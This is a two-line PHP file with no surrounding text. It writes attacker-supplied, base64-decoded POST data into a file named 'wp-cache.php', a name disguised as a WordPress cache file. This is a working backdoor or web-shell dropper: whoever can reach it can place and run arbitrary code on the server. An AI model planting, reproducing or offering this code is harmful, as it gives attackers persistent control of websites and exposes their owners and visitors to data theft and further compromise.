<?php
file_put_contents('wp-cache.php', base64_decode($_POST['x']));
